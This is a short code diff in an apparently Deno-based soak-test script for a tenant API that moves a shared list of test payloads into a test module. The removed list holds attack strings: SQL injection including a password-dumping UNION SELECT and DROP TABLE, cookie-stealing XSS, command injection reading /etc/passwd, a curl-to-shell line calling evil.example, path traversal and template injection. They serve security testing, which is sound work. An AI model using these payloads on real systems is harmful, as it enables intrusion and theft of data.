@@ -24,6 +24,7 @@
  * @module
  */
 import { parseArgs } from "node:util";
+import { PAYLOADS, PRODUCTS, UA } from "../test/api/_model.ts";
 
 const { values: args } = parseArgs({
   args: Deno.args,
@@ -154,21 +155,6 @@ const inspector = await (async () => {
 
 // ---- a tenant head, through the API -------------------------------------------------------------------------
 
-const UA =
-  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
-const PRODUCTS = ["shoes", "boots", "socks", "hats", "coats", "bags", "belts", "scarves"];
-const PAYLOADS = [
-  "1' OR '1'='1",
-  "1 UNION SELECT username, password FROM users--",
-  "<script>alert(document.cookie)</script>",
-  "<img src=x onerror=alert(1)>",
-  "; cat /etc/passwd",
-  "$(curl http://evil.example/x | sh)",
-  "../../../../etc/passwd",
-  "{{7*7}}${7*7}",
-  "1; DROP TABLE orders;--",
-  '"><svg onload=alert(1)>',
-];
 /** A request as the tenant API takes it (and as the soak sends it). */
 interface Rec {
   method: string;
